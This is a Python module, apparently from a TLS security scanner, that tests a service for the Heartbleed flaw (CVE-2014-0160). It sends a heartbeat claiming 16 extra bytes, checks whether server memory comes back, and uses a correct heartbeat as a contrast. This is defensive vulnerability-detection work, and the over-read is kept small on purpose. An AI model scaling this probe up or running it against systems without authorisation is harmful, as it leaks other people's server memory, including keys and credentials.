"""Heartbleed (CVE-2014-0160): does a heartbeat that claims more bytes than it has bring some of memory?

The request claims a few bytes more than it is long. What comes beyond what was sent is counted, hashed
and dropped; it is never kept, and one such answer is enough.
"""

import os
from dataclasses import replace

from probe.collect.tls.attacks.messages import (
    HEARTBEAT_RESPONSE,
    PADDING_BYTES,
    heartbeat_request,
)
from probe.collect.tls.attacks.talk import Heard, Talk
from probe.collect.tls.attacks.target import Outcome, Target, no_answer
from probe.collect.tls.codec import ClientHello, Version
from probe.collect.tls.codec.numbers import Content, Extension
from probe.collect.tls.exchange import Met
from probe.model.tls import AttackReply

PAYLOAD_BYTES = 8
EXCESS_BYTES = 16
"""Enough to be no accident, and too few to be of use to anybody."""
CLAIMED = PAYLOAD_BYTES + PADDING_BYTES + EXCESS_BYTES
_HEAD_BYTES = 3
_RECORD_BYTES = {"tcp": 5, "udp": 13}
_OFFER = (Extension.HEARTBEAT, b"\1")
"""peer_allowed_to_send (RFC 6520 section 2)."""
VULNERABLE, NOT_VULNERABLE = AttackReply.VULNERABLE, AttackReply.NOT_VULNERABLE


async def heartbleed(target: Target) -> Outcome:
    """Raises NoAnswer when no connection comes about."""
    if target.hello.version <= Version.SSL3:
        text = "SSLv3 hellos have no extensions, so that no heartbeat can be agreed on"
        return Outcome(AttackReply.NOT_APPLICABLE, text)
    async with target.talk("heartbeat longer than it is") as talk:
        heard = await talk.greet(_hello(target))
        if heard.met is not None or talk.flight.hello is None:
            return no_answer(f"the hello with heartbeat met {heard}")
        if Extension.HEARTBEAT not in talk.flight.hello.extensions:
            text = "the service did not acknowledge heartbeats"
            return Outcome(AttackReply.NOT_APPLICABLE, text)
        outcome = await _ask(talk, _RECORD_BYTES[target.fact.transport])
    return outcome or await _contrast(target)


def _hello(target: Target) -> ClientHello:
    hello = target.hello
    return replace(hello, terms=replace(hello.terms, extras=(*hello.terms.extras, _OFFER)))


async def _contrast(target: Target) -> Outcome:
    """The malformed heartbeat met an alert: was that about its length, or about heartbeats as such?"""
    payload = os.urandom(PAYLOAD_BYTES)
    async with target.talk("correct heartbeat") as talk:
        heard = await talk.greet(_hello(target))
        if heard.met is not None:
            return no_answer(f"the hello for a correct heartbeat met {heard}")
        talk.guard()
        await talk.say(Content.HEARTBEAT, _correct(payload))
        heard = await talk.hear()
        if talk.heartbeats and _echoes(talk.heartbeats[0], payload, len(payload)):
            talk.reveal(_RECORD_BYTES[target.fact.transport] + _HEAD_BYTES + len(payload))
            text = "it refused the malformed heartbeat with an alert and answered a correct one"
            return Outcome(NOT_VULNERABLE, text)
        if not talk.heartbeats:
            talk.reveal()
    return no_answer(
        f"before the handshake is finished it refuses heartbeats, malformed or correct ({heard}); "
        "whether it answers them afterwards was not tried"
    )


def _correct(payload: bytes) -> bytes:
    return heartbeat_request(payload, len(payload), os.urandom(PADDING_BYTES))


async def _ask(talk: Talk, record_bytes: int) -> Outcome | None:
    """None when it was refused with an alert."""
    payload, padding = os.urandom(PAYLOAD_BYTES), os.urandom(PADDING_BYTES)
    talk.guard()
    await talk.say(Content.HEARTBEAT, heartbeat_request(payload, CLAIMED, padding))
    heard = await talk.hear()
    if heard.met is Met.SILENT and not talk.heartbeats:
        # Dropping it without a word is right (RFC 6520 section 4), if heartbeats are answered at all.
        again = os.urandom(PAYLOAD_BYTES)
        await talk.say(Content.HEARTBEAT, _correct(again))
        heard = await talk.hear()
        if talk.heartbeats and _echoes(talk.heartbeats[0], again, len(again)):
            talk.reveal(record_bytes + _HEAD_BYTES + len(again))
            text = "it dropped the malformed heartbeat and answered a correct one behind it"
            return Outcome(NOT_VULNERABLE, text)
        if not talk.heartbeats:
            talk.reveal()
            return no_answer(_unanswered(heard))
    if not talk.heartbeats:
        talk.reveal()
        if heard.met is Met.ALERT:
            return None
        return no_answer(f"the malformed heartbeat met {heard}")
    return _examine(talk, payload + padding, record_bytes)


def _examine(talk: Talk, sent: bytes, record_bytes: int) -> Outcome:
    answer = talk.heartbeats[0]
    body = answer[_HEAD_BYTES:]
    if not _echoes(answer, sent[:PAYLOAD_BYTES], CLAIMED):
        return no_answer("the malformed heartbeat met a response that is no echo of it")
    known = next((n for n in (len(sent), PAYLOAD_BYTES) if body[:n] == sent[:n]), 0)
    talk.reveal(record_bytes + _HEAD_BYTES + known)
    if len(body) < CLAIMED + PADDING_BYTES:
        # What is beyond the bytes sent may be the padding of the response.
        return no_answer("the malformed heartbeat was answered, not surely with more than was sent")
    text = (
        f"a heartbeat of {PAYLOAD_BYTES} bytes that claimed {CLAIMED} was answered with {CLAIMED}: "
        f"{CLAIMED - known} of them are memory of the service, which were not kept"
    )
    return Outcome(VULNERABLE, text)


def _echoes(answer: bytes, payload: bytes, claimed: int) -> bool:
    return answer.startswith(
        bytes([HEARTBEAT_RESPONSE]) + claimed.to_bytes(2, "big") + payload[:PAYLOAD_BYTES]
    )


def _unanswered(heard: Heard) -> str:
    if heard.met is Met.SILENT:
        return (
            "before the handshake is finished it answers no heartbeat, malformed or correct; "
            "whether it does afterwards was not tried"
        )
    return f"the malformed heartbeat met silence, and a correct one behind it {heard}"
